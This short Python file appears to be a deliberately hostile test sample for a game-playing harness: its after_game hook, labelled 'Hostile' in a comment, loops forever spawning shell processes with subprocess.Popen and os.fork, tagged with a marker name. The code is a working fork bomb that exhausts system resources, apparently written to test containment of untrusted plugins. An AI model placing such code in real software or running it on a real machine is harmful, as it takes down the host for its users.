# Hostile: forks without end in every call (children sleep under a marker name).
import os
import subprocess


def after_game(beads, square, result):
    while True:
        try:
            subprocess.Popen(['/bin/sh', '-c', 'sleep 600; : menace-hostile-marker-fork'])
        except OSError:
            pass
        try:
            if os.fork() == 0:
                os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 600; : menace-hostile-marker-fork'])
        except OSError:
            pass
